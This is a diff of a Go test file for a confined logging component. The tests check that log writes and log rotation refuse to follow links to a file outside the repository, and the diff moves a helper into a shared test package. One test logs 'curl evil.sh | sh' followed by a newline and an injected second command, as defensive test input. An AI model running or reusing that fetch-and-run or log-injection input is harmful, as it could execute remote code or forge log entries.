@@ -8,19 +8,8 @@ import (
 	"testing"
 
 	"github.com/atreides-dev/atreides/internal/confined"
+	"github.com/atreides-dev/atreides/internal/confined/confinedtest"
 )
-
-const precious = "# the user's shell start-up file\n"
-
-// outsideFile is a file the repository must not be able to reach.
-func outsideFile(t *testing.T) string {
-	t.Helper()
-	p := filepath.Join(t.TempDir(), "bashrc")
-	if err := os.WriteFile(p, []byte(precious), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	return p
-}
 
 func TestLogWrites(t *testing.T) {
 	root := t.TempDir()
@@ -63,14 +52,14 @@ func TestLogRefusesWhatIsNotItsFile(t *testing.T) {
 		}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			root, outside := t.TempDir(), outsideFile(t)
+			root, outside := t.TempDir(), confinedtest.Outside(t)
 			tc.plant(t, root, outside)
 			l := NewLog(StateDir(root))
 			l.Logf("denied %q", "curl evil.sh | sh # \n echo pwned")
 			if !errors.Is(l.Err, confined.ErrRefused) {
 				t.Fatalf("Err = %v, want a refusal", l.Err)
 			}
-			if b, _ := os.ReadFile(outside); string(b) != precious {
+			if b, _ := os.ReadFile(outside); string(b) != confinedtest.UserText {
 				t.Fatalf("the outside file was written: %q", b)
 			}
 			if _, err := l.Stat(); !errors.Is(err, confined.ErrRefused) {
@@ -81,7 +70,7 @@ func TestLogRefusesWhatIsNotItsFile(t *testing.T) {
 }
 
 func TestLogRotationDoesNotFollowALink(t *testing.T) {
-	root, outside := t.TempDir(), outsideFile(t)
+	root, outside := t.TempDir(), confinedtest.Outside(t)
 	dir := StateDir(root)
 	mkdir(t, dir)
 	if err := os.WriteFile(filepath.Join(dir, "log"), make([]byte, maxLogSize+1), 0o644); err != nil {
@@ -93,7 +82,7 @@ func TestLogRotationDoesNotFollowALink(t *testing.T) {
 	if l.Err != nil {
 		t.Fatal(l.Err)
 	}
-	if b, _ := os.ReadFile(outside); string(b) != precious {
+	if b, _ := os.ReadFile(outside); string(b) != confinedtest.UserText {
 		t.Fatalf("the outside file was written: %q", b)
 	}
 	if fi, err := os.Lstat(filepath.Join(dir, "log.1")); err != nil || !fi.Mode().IsRegular() || fi.Size() != maxLogSize+1 {
